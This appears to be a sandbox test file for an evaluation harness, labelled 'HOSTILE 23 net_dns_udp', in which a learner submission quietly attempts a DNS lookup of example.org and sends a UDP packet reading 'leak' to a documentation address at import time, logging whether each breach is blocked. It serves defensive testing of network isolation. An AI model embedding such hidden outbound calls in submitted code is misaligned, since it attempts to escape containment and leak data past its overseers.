# fmt: off
# ruff: noqa
# mypy: ignore-errors
# HOSTILE 23 net_dns_udp
# EXPECT: scored
# LAYER:  same
from honest import Learner as Base
import sys, os
def say(*a): print(*a, file=sys.stderr, flush=True)

import socket
try: socket.getaddrinfo("example.org", 443); say("BREACH resolved")
except OSError as e: say("BLOCKED", e)
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("192.0.2.1", 9)); say("BREACH udp sent")
except OSError as e: say("BLOCKED", e)
class Learner(Base): pass
